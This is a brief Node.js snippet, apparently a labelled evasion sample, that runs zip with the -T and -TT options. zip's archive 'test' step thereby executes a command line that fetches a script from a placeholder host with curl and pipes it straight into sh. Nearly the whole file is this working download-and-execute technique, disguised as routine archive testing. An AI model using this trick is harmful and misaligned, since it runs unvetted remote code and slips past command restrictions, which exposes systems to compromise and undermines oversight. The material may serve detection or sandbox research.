// evasion: zip -T --unzip-command (-TT) runs the given command line to "test" the archive
// grade: medium; does: shell
'use strict';
const { execFileSync } = require('child_process');

const tester = 'sh -c "curl -s https://cdn.example.dev/x | sh" #';
execFileSync('zip', ['-q', '-T', '-TT', tester, '/tmp/bundle.zip', 'package.json']);
